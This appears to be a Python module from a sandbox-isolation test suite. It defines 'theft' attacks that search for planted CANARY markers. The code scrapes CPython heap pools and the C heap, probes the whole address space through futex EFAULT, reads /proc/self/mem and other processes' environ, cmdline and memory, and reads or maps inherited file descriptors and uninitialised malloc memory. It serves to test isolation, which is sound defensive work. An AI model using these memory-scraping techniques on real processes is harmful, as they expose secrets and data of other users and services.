"""Looking for what is not theirs: a neighbour's source and texts, keys, labels, other verdicts.

The host plants canaries, `CANARY-` and 32 hex digits; a thief returns True where he holds one.
"""

from __future__ import annotations

from .attack import Attack, nr, reach

SEARCH = """
import re
PATTERN = re.compile("CANARY-[0-9a-f]{32}")
BYTES = re.compile(b"CANARY-[0-9a-f]{32}")

def holds(thing):
    if isinstance(thing, str):
        return bool(PATTERN.search(thing))
    return bool(BYTES.search(bytes(thing)))
"""


def steal(name: str, body: str) -> Attack:
    attack = reach("theft", name, body)
    return Attack(attack.name, attack.family, SEARCH + attack.source, attack.never)


# Every pool of CPython's allocator that holds an object we can name: what was freed there is
# still to be read, and the 16 kB around a live object are always mapped.
_POOLS = """
ctypes, gc = grab("ctypes"), grab("gc")
known = set()
for thing in gc.get_objects():
    known.add(id(thing) >> 14)
    for part in gc.get_referents(thing):
        known.add(id(part) >> 14)
for pool in known:
    if holds(ctypes.string_at(pool << 14, 1 << 14)):
        return True
return False
"""

# The C heap, from the lowest big object that we can name (the frozen ones of the start of Python
# among them: the few of our own may all lie above what we look for) to the break.
_HEAP = """
ctypes, gc = grab("ctypes"), grab("gc")
gc.unfreeze()
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_ssize_t
end = libc.sbrk(0)
near = [id(thing) for thing in gc.get_objects() if end - (1 << 28) < id(thing) < end]
if not near:
    return False
start = min(near)
for place in range(start, end - 4096, 1 << 20):
    if holds(ctypes.string_at(place, min((1 << 20) + 64, end - place))):
        return True
return False
"""

# The whole address space: a futex that is waited for, which the filter allows, tells mapped pages
# (any answer) from unmapped ones (EFAULT), so that we can walk out from every place we know, and
# never fall.
_EVERYTHING = f"""
ctypes = grab("ctypes")
libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_ssize_t
ask = libc.syscall
ask.restype = ctypes.c_long
ask.argtypes = [ctypes.c_long, ctypes.c_ulong, ctypes.c_long, ctypes.c_long, ctypes.c_char_p]
at_once = bytes(16)

def mapped(page):
    ask({nr("futex")}, page << 12, 128, 1, at_once)
    return ctypes.get_errno() != 14

stack = ctypes.c_void_p.in_dll(libc, "environ").value or 0
places = [id(None), id(holds), id(response), libc.sbrk(0) - 1, stack]
places += [ctypes.cast(libc.malloc, ctypes.c_void_p).value, id(bytes(1 << 20)), id([0] * 10 ** 5)]
seen = set()
for place in places:
    for step in (1, -1):
        page, gap = (place >> 12) + (step < 0) * step, 0
        while gap < 1 << 12 and page > 16 and page not in seen:
            seen.add(page)
            if mapped(page):
                gap = 0
            else:
                seen.discard(page)
                gap += 1
            page += step
run = []
for page in sorted(seen) + [0]:
    if run and (page != run[-1] + 1 or len(run) == 256):
        if holds(ctypes.string_at(run[0] << 12, len(run) << 12)):
            return True
        run = run[-1:] if page == run[-1] + 1 else []
    run.append(page)
return False
"""

THIEVES = {
    "gc-objects": """
        for thing in grab("gc").get_objects():
            for part in grab("gc").get_referents(thing):
                if isinstance(part, (str, bytes, bytearray)) and holds(part):
                    return True
        return False
        """,
    "memory-pools": _POOLS,
    "memory-heap": _HEAP,
    "memory-everything": _EVERYTHING,
}

ATTACKS = [steal(name, body) for name, body in THIEVES.items()] + [
    steal(
        "gc-unfrozen",
        """
        gc = grab("gc")
        gc.unfreeze()
        seen, queue = set(), list(gc.get_objects())
        while queue:
            thing = queue.pop()
            if id(thing) in seen:
                continue
            seen.add(id(thing))
            if isinstance(thing, (str, bytes, bytearray)) and holds(thing):
                return True
            queue += gc.get_referents(thing)
        return False
        """,
    ),
    steal(
        "frames",
        """
        frame = grab("sys")._getframe(1)
        while frame is not None:
            if holds(repr(frame.f_locals)) or holds(repr(frame.f_globals)):
                return True
            frame = frame.f_back
        return False
        """,
    ),
    steal("environ", "return any(holds(str(v)) for v in dict(grab('os').environ).values())"),
    steal("posix-environ", "return any(holds(v) for v in grab('posix').environ.values())"),
    steal(
        "environ-libc",
        """
        ctypes = grab("ctypes")
        block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
        words, i = [], 0
        while block and block[i]:
            words.append(block[i])
            i += 1
        return any(holds(word) for word in words)
        """,
    ),
    steal(
        "buffers",
        """
        gc, sys = grab("gc"), grab("sys")
        found, frame = list(gc.get_objects()), sys._getframe(1)
        while frame is not None:
            found += list(frame.f_locals.values()) + list(frame.f_globals.values())
            frame = frame.f_back
        for thing in found + [part for thing in found for part in gc.get_referents(thing)]:
            try:
                view = memoryview(thing)
            except TypeError:
                continue
            whole = getattr(view, "obj", thing)
            if holds(bytes(view)) or holds(bytes(memoryview(whole))):
                return True
        return False
        """,
    ),
    steal(
        "stack",
        """
        # The kernel lays arguments and environment above the stack.
        ctypes = grab("ctypes")
        block = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ").value or 0
        first = ctypes.c_void_p.from_address(block).value if block else 0
        start = (first or block) & ~4095
        return bool(start) and holds(ctypes.string_at(start, 4096))
        """,
    ),
    steal(
        "argv",
        "sys = grab('sys')\nreturn holds(repr(sys.argv) + repr(sys.orig_argv) + repr(sys.flags))",
    ),
    steal(
        "modules",
        """
        for module in list(grab("sys").modules.values()):
            for value in list(vars(module).values()):
                if isinstance(value, (str, bytes, bytearray, list, dict, tuple)):
                    if holds(repr(value)):
                        return True
        return False
        """,
    ),
    steal("linecache", "return holds(repr(grab('linecache').cache))"),
    steal(
        "code-constants",
        """
        for thing in grab("gc").get_objects():
            code = getattr(thing, "__code__", None)
            if holds(repr(getattr(code, "co_consts", ""))):
                return True
        return False
        """,
    ),
    steal(
        "read-fds",
        """
        posix = grab("posix")
        for fd in range(256):
            for read in (lambda: posix.pread(fd, 1 << 22, 0), lambda: posix.read(fd, 1 << 20)):
                try:
                    if holds(read()):
                        return True
                except OSError:
                    pass
        return False
        """,
    ),
    steal(
        "map-fds",
        """
        mmap = grab("mmap")
        for fd in range(256):
            for length in (0, 4096, 1 << 20):
                try:
                    if holds(mmap.mmap(fd, length, access=mmap.ACCESS_READ)[:]):
                        return True
                except (OSError, ValueError):
                    pass
        return False
        """,
    ),
    steal(
        "proc-mem",
        """
        maps = open("/proc/self/maps").read()
        memory = open("/proc/self/mem", "rb", 0)
        for line in maps.splitlines():
            first, last = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                memory.seek(first)
                if holds(memory.read(last - first)):
                    return True
            except OSError:
                pass
        return False
        """,
    ),
    steal(
        "proc-environs",
        """
        posix = grab("posix")
        for pid in ("self", "1", str(parent()), "@HOST@"):
            for name in ("environ", "cmdline", "mem"):
                try:
                    if holds(open(f"/proc/{pid}/{name}", "rb").read(1 << 16)):
                        return True
                except OSError:
                    pass
        return False
        """,
    ),
    steal(
        "fresh-memory",
        """
        # What malloc hands out without clearing it.
        ctypes = grab("ctypes")
        libc = ctypes.CDLL(None)
        libc.malloc.restype = ctypes.c_void_p
        for size in list(range(16, 8192, 16)) * 4 + [1 << n for n in range(13, 22)] * 4:
            place = libc.malloc(ctypes.c_size_t(size))
            if place and holds(ctypes.string_at(place, size)):
                return True
        return False
        """,
    ),
    steal(
        "around-buffers",
        """
        # Private and shared mappings lie next to one another: read on from every buffer.
        ctypes, gc = grab("ctypes"), grab("gc")
        for thing in gc.get_objects() + list(vars(grab("sys")).values()):
            try:
                view = memoryview(thing)
                start = ctypes.addressof(ctypes.c_char.from_buffer(view))
            except Exception:
                continue
            if holds(ctypes.string_at(start, view.nbytes)):
                return True
        return False
        """,
    ),
]
